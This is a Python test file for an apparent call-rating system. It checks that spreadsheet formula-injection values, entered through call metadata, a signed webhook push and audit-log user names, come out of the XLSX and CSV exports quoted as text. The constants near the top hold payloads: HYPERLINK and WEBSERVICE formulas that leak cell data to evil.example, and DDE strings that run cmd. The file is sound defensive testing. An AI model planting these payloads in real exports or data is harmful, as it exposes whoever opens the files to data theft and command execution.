"""Formula injection, performed: names that a spreadsheet would run go in the way outside data does (channel
variables, a signed case.record push, a user name) and come out of every workbook and CSV as text."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from standardwebhooks.webhooks import Webhook

from rating_core.events.call_events import CallStarted, RatingGiven
from rating_core.outbox.webhook_endpoints import new_secret
from rating_core.reports.cell_text import csv_text, looks_like_a_formula
from rating_core.store.audit_log import add_entry
from rating_core.store.models import AuditEntry, Call
from test_figures import every_unit_ranked, quarter
from web_pages import signed_in

# OWASP's starts, and a tab, which the store turns into a leading space (a one-line field) that LibreOffice's
# CSV import may trim before it evaluates what follows.
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
AGENTS = ["+1+1", "-2+3", "@SUM(A1)", "\t=1+2"]
QUEUE = "-1+cmd|' /C calc'!A0"
PUSHED_UNIT = '=WEBSERVICE("http://evil.example/"&B5)'


def _calls(site) -> dict[str, str]:
    """One rated call per formula-like agent from channel variables, and a unit set by a signed case.record
    push; what the store kept of each name, by where it came from."""
    now = datetime.now(timezone.utc)
    events: list[object] = []
    for n, agent in enumerate(AGENTS):
        uid = f"1795500000.{n}"
        events += [CallStarted(uniqueid=uid, hotline="12345", at=now, caller_number=f"1390000{n:04d}",
                               agent_id=agent, queue=QUEUE, unit=LINK),
                   RatingGiven(uid, "satisfied", "dtmf", now)]
    site.store.apply(events)
    secret = new_secret()
    site.app.config.update(INBOUND_SECRETS=(secret,))
    body = json.dumps({"type": "case.record", "records": [
        {"uniqueid": "1795500000.0", "case_number": "GD-1", "unit": PUSHED_UNIT}]}, ensure_ascii=False)
    pushed = site.app.test_client().post("/api/inbound", data=body.encode(), headers={
        "webhook-id": "msg_formula", "webhook-timestamp": str(int(now.timestamp())),
        "webhook-signature": Webhook(secret).sign("msg_formula", now, body), "content-type": "application/json"})
    assert pushed.status_code == 200, pushed.data
    with site.store.sessions() as session:
        stored = {call.uniqueid: call for call in session.query(Call).filter(Call.uniqueid.like("1795500000.%"))}
        assert stored["1795500000.0"].unit == PUSHED_UNIT
        return {"agent": {stored[f"1795500000.{n}"].agent_id for n in range(len(AGENTS))},
                "queue": {stored["1795500000.1"].queue}, "unit": {LINK, PUSHED_UNIT}}  # type: ignore[dict-item]


@pytest.fixture
def attacked(web_site):
    web_site.app.extensions["hotline_scoring"] = every_unit_ranked()
    return web_site, _calls(web_site)


@pytest.mark.parametrize("by", ["agent", "queue", "unit"])
def test_the_通报表_writes_names_from_outside_as_text(attacked, by: str) -> None:
    site, names = attacked
    response = signed_in(site, "boss").get(f"/supervisor/figures.xlsx?by={by}&period={quarter()}")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = {cell.value: cell for cell in sheet["B"] if looks_like_a_formula(cell.value)}
    assert set(cells) == names[by] and all(looks_like_a_formula(name) for name in names[by])
    # A string cell, quote-prefixed so that editing it in Excel keeps it text; no formula in any sheet.
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells.values())
    with zipfile.ZipFile(io.BytesIO(response.data)) as xlsx:
        assert not any("<f>" in xlsx.read(name).decode() for name in xlsx.namelist() if "worksheets/" in name)


def test_the_ratings_csv_writes_names_from_outside_as_text(attacked, tmp_path, engine) -> None:
    from click.testing import CliRunner

    from hotline_eval.cli import main

    site, names = attacked
    done = CliRunner().invoke(main, ["ratings", "export", "--format", "csv"], env={
        "DATABASE_URL": engine.url.render_as_string(hide_password=False), "HOTLINE_EVAL_HOME": str(tmp_path)})
    assert done.exit_code == 0, done.output
    rows = [row for row in csv.DictReader(io.StringIO(done.stdout)) if row["uniqueid"].startswith("1795500000.")]
    assert {row["agent_id"] for row in rows} == {f"'{agent}" for agent in names["agent"]}
    assert {row["queue"] for row in rows} == {f"'{QUEUE}"}
    assert {row["unit"] for row in rows} == {f"'{LINK}", f"'{PUSHED_UNIT}"}
    assert not any(looks_like_a_formula(value) for row in rows for value in row.values())


def test_the_audit_csv_writes_what_came_from_outside_as_text(web_site) -> None:
    """A user name, a target and an address the audit log keeps as given: the admin's export quotes them."""
    with web_site.store.sessions.begin() as session:
        for n, name in enumerate(["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1"]):
            add_entry(session, "login_failed", username=name, target=f"-{n}+1", remote_addr="@evil",
                      detail={"reason": "x"})
    export = signed_in(web_site, "admin").get("/admin/audit.csv?action=login_failed")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"))))[1:]
    injected = [row for row in rows if row[-1] == "'@evil"]
    assert len(injected) == 7 and all(row[1].startswith("'") and row[6].startswith("'-") for row in injected)
    assert not any(looks_like_a_formula(cell) for row in rows for cell in row)
    # Filtered by action, the export records its filters, the action among them (a 500 once: two "action"s).
    with web_site.store.sessions() as session:
        exported = session.scalars(select(AuditEntry).where(AuditEntry.action == "audit_exported")).one()
        assert exported.detail == {"action": "login_failed"}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t1", "\r1", " =1", "\u3000+1", "\n@A1"])
def test_every_formula_start_is_quoted(value: str) -> None:
    assert csv_text(value) == f"'{value}" and looks_like_a_formula(value)


@pytest.mark.parametrize("value", ["市人社局", "1024", "", " 市人社局", "a=b", -1, 2.5, None])
def test_plain_text_and_numbers_stay_as_they_are(value: object) -> None:
    assert csv_text(value) == value and not looks_like_a_formula(value)
